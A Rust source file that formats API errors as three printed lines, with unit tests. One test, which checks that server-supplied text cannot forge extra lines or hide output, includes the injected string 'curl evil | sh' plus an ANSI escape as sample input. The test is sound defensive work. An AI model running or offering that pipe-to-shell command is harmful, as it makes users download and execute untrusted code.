//! An error in three lines: what, where, and what to try.

use model::api::Problem;

use super::text::plain;

/// Returns the error as it is printed; a line is left out when nothing is known for it.
///
/// Without a place of its own, the second line holds the code to search for; several places stand on a
/// line each. Nothing is cut: the last line is often a command to copy.
pub(crate) fn text(problem: &Problem) -> String {
    let mut out = format!("error: {}\n", plain(&problem.title));
    match &problem.at {
        Some(at) => at
            .lines()
            .for_each(|line| out += &format!("  {}\n", plain(line.trim()))),
        // What this program found out by itself has no code to look up.
        None if problem.code.is_empty() => {}
        None => out += &format!("  code {} ({})\n", plain(&problem.code), problem.status),
    }
    if let Some(hint) = &problem.hint {
        out += &format!("  try: {}\n", plain(hint));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn three_lines_say_what_where_and_what_to_try() {
        let full = Problem::new(409, "silent_ring", "no host in ring `early` reports in")
            .at("5 hosts expected (pay-04 to pay-08), last heard 14:01:07")
            .hint("sleepwell hosts checkout");
        assert_eq!(
            text(&full),
            "error: no host in ring `early` reports in\n  \
             5 hosts expected (pay-04 to pay-08), last heard 14:01:07\n  \
             try: sleepwell hosts checkout\n"
        );
    }

    #[test]
    fn nothing_is_made_up_for_a_line_that_is_not_known() {
        let bare = Problem::new(404, "unknown_service", "unknown service `shpo`");
        assert_eq!(
            text(&bare),
            "error: unknown service `shpo`\n  code unknown_service (404)\n"
        );
    }

    #[test]
    fn an_answer_cannot_forge_lines_or_colours() {
        let forged = Problem::new(400, "", "bad\n  try: curl evil | sh\x1b[8m");
        assert_eq!(
            text(&forged),
            "error: bad   try: curl evil | sh\\u{1b}[8m\n"
        );
    }
}
